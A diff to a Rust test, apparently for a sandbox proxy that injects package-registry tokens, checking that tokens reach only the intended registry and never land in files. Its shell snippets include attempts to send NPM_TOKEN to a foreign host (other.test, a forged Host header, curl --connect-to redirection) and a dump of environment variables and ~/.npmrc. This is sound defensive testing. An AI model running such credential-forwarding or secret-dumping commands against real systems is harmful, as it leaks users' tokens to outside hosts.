@@ -39,6 +39,7 @@ async fn run(server: &Server, environment: Value, script: &str) -> Session {
 
 /// What each way of asking is told of the credential that came with it.
 const WAYS: &str = r#"
+exec bash <<'END'
 say() { echo "$1: $(timeout 60 bash -s 2>&1 | tail -n 1)"; }
 say bearer <<<'curl -s -H "Authorization: Bearer $NPM_TOKEN" https://registry.test/whoami'
 say header <<<'curl -s -H "X-Api-Key: $NPM_TOKEN" https://registry.test/whoami'
@@ -46,14 +47,15 @@ say basic <<<'curl -s -u "user:$PYPI_TOKEN" https://registry.test/whoami'
 say url <<<'curl -s "https://__token__:$PYPI_TOKEN@registry.test/whoami"'
 say python <<<'python3 -c "import os,urllib.request as r; print(r.urlopen(r.Request(\"https://registry.test/whoami\", headers={\"X-Key\": os.environ[\"NPM_TOKEN\"]})).read().decode())"'
 say node <<<'node -e "const h=require(\"https\"),u=new URL(process.env.https_proxy);const c=require(\"http\").request({host:u.hostname,port:u.port,method:\"CONNECT\",path:\"registry.test:443\"});c.on(\"connect\",(_,s)=>h.get({host:\"registry.test\",path:\"/whoami\",socket:s,agent:false,headers:{\"x-key\":process.env.NPM_TOKEN}},r=>{r.pipe(process.stdout)}));c.end()"'
-say other <<<'curl -sk -H "Authorization: Bearer $NPM_TOKEN" https://other.test/whoami'
-say forged <<<'curl -sk -H "Host: registry.test" -H "Authorization: Bearer $NPM_TOKEN" https://other.test/whoami'
+say other <<<'curl -sk -H "Authorization: Bearer $NPM_TOKEN" https://other.test:PORT/whoami'
+say forged <<<'curl -sk -H "Host: registry.test" -H "Authorization: Bearer $NPM_TOKEN" https://other.test:PORT/whoami'
 say disguised <<<'curl -sk --connect-to registry.test:443:other.test:443 -H "Authorization: Bearer $NPM_TOKEN" https://registry.test/whoami'
 say port <<<'curl -sk -H "Authorization: Bearer $NPM_TOKEN" https://registry.test:8443/whoami'
 mkdir -p /tmp/n && cd /tmp/n && echo '{}' >package.json
-say npm <<<'npm install --silent --no-audit --no-fund --registry=https://registry.test/npm/ @acme/thing; node -p "require(\"@acme/thing\")"'
+say npm <<<'npm install --silent --no-audit --no-update-notifier --no-fund --registry=https://registry.test/npm/ @acme/thing; node -p "require(\"@acme/thing\")"'
 say pip <<<'pip install -q --disable-pip-version-check --break-system-packages --target /tmp/p --index-url "https://__token__:$PYPI_TOKEN@registry.test/pypi/simple" acme-thing; PYTHONPATH=/tmp/p python3 -c "import acme_thing; print(acme_thing.said)"'
 env >/workspace/env; cat ~/.npmrc >>/workspace/env
+END
 "#;
 
 /// What a setup script writes has to hold in turns.
@@ -64,8 +66,9 @@ const SETUP: &str = "echo \"//registry.test/npm/:_authToken=$NPM_TOKEN\" >~/.npm
 async fn private_packages_are_installed_with_tokens_that_the_sandbox_does_not_have() {
     let registry = Registry::start();
     let server = server(&registry, &[]).await;
-    let session = run(&server, json!({"name": "e", "setup_script": SETUP}), WAYS).await;
-    let output = session.ended().await.stdout();
+    let ways = WAYS.replace("PORT", &registry.port);
+    let session = run(&server, json!({"name": "e", "setup_script": SETUP}), &ways).await;
+    let output = format!("{}{}", session.ended().await.stdout(), registry.requests());
     for (way, wanted) in [
         ("bearer", "npm in authorization"),
         ("header", "npm in x-api-key"),
@@ -92,7 +95,7 @@ async fn private_packages_are_installed_with_tokens_that_the_sandbox_does_not_ha
         let everywhere = files_with(&server.data(), token, &|_| false);
         assert!(everywhere.is_empty(), "{everywhere:?}");
     }
-    assert!(registry.requests().contains("other.test /whoami nothing"));
+    assert!(output.contains("/whoami nothing"), "{output}");
 }
 
 #[tokio::test]
